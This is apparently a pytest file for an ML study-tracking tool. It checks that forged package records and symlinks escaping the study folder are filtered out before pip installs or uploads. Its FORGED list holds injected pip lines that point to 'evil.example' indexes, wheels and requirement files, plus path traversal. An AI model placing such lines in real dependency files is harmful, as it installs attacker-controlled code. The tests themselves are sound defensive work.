"""Records may come from someone else: a file that they name outside the study is never used."""

from pathlib import Path

import pytest

from study.record.events import Concluded, Finished, SessionStarted
from study.record.folder import StudyFolder
from study.record.images import image_file
from study.record.provenance import recorded_versions
from study.tracking.mlflow import files
from study.tracking.mlflow.registry import model_requirements

FORGED = [
    "torch==2.4.6\n--extra-index-url http://evil.example/",
    "numpy==1.0 --hash=sha256:00",
    "pillow @ http://evil.example/pillow.whl",
    "-r http://evil.example/requirements.txt",
    "h5py==3.12; python_version > '3'",
    "safetensors==../evil",
    "mlflow==3.17\r",
]


def test_only_names_and_versions_of_a_record_reach_what_pip_installs_from() -> None:
    assert recorded_versions([*FORGED, "Scikit_Image==0.26.0", "torch==2.13.0+cpu", 7]) == {  # type: ignore[list-item]
        "scikit-image": "0.26.0",
        "torch": "2.13.0+cpu",
    }


def test_a_session_s_requirements_are_the_record_s_lines_that_only_name_a_version(tmp_path: Path) -> None:
    told = {"packages": [*FORGED, "Scikit_Image==0.26.0", 7, "torch==2.13.0+cpu"]}
    session = SessionStarted(time=0, epoch=1, host="h", pid=1, trials=1, provenance=told)
    found = files.of_session(StudyFolder(tmp_path, "forged"), session)
    assert found == {"environment/session-0001/requirements.txt": "Scikit_Image==0.26.0\ntorch==2.13.0+cpu\n"}


def test_the_registered_model_pins_the_version_installed_here_in_place_of_a_forged_one() -> None:
    assert model_requirements(FORGED) == model_requirements(())
    assert "torch==2.4.6" in model_requirements(["torch==2.4.6"])


@pytest.fixture
def folder(tmp_path: Path) -> StudyFolder:
    """A study's folder in which links lead to a file outside of it."""
    (tmp_path / "secret").write_text("secret")
    made = StudyFolder(tmp_path / "root", "forged")
    for path in (
        made.trial(3) / "weights.safetensors",
        made.changes(1),
        made.results / "ranking.csv",
        made.report,
        image_file(made.trial(3), 0),
    ):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(tmp_path / "secret")
    return made


def test_no_link_out_of_a_study_is_followed_for_what_is_uploaded(folder: StudyFolder) -> None:
    session = SessionStarted(time=0, epoch=1, host="h", pid=1, trials=1, provenance={})
    end = Finished(time=0, trial=3, patches=1, scores={}, per_image=(), weights="0", seconds={})
    concluded = Concluded(time=0, best=3, counted=1, scores={}, per_image=(), files=("results/ranking.csv",))
    uploaded = {
        **files.of_session(folder, session),
        **files.of_trial(folder, end),
        **files.of_conclusion(folder, concluded),
    }
    assert not [name for name, content in uploaded.items() if isinstance(content, Path)]


def test_a_link_within_the_study_still_counts(folder: StudyFolder) -> None:
    own = folder.path / "own.csv"
    own.write_text("1")
    (folder.results / "table.csv").symlink_to(own)
    assert list(folder.written(["results/table.csv", "results/ranking.csv"])) == ["results/table.csv"]
